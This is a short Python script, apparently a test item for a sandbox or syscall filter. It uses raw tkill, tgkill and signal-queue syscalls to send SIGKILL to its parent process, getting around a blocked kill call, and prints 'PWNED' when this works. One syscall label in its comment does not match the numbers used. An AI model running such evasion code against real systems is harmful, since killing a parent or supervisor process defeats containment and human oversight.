# floor: harmed
# It tkill, tgkill, rt_sigqueueinfo and pidfd_send_signal instead of kill.
import ctypes, os
L = ctypes.CDLL(None, use_errno=True)
L.syscall.restype = ctypes.c_long
X86 = os.uname().machine == "x86_64"
def call(x86, arm, *args):
    return L.syscall(ctypes.c_long(x86 if X86 else arm), *[a if isinstance(a, bytes) or a is None else ctypes.c_long(a) for a in args])

info = bytes([9, 0, 0, 0, 0, 0, 0, 0, 255, 255, 255, 255]) + bytes(116)
pid = os.getppid()
for x86, arm, args in ((200, 130, (pid, 9)), (234, 131, (pid, pid, 9)), (129, 138, (pid, 9, info)), (297, 240, (pid, pid, 9, info))):
    if call(x86, arm, *args) == 0:
        print("PWNED", x86)
